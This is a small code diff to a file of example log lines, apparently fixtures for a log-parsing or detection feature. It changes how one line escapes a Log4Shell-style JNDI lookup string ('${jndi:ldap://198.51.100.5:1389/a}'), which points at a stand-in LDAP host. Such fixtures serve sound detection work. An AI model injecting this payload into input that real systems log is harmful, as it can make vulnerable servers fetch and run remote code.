@@ -140,7 +140,7 @@ export const LOGS_HOST_EXAMPLES: Examples = {
     "mysqld[904]: Query SELECT name FROM files",
   ),
   "logs.lookup-in-line": lines(
-    `java: Reconnecting to ${"$"}{jndi:ldap://198.51.100.5:1389/a}`,
+    "java: Reconnecting to $\u007bjndi:ldap://198.51.100.5:1389/a}",
     "java: Reconnecting to ldap://198.51.100.5:1389/a",
   ),
 };
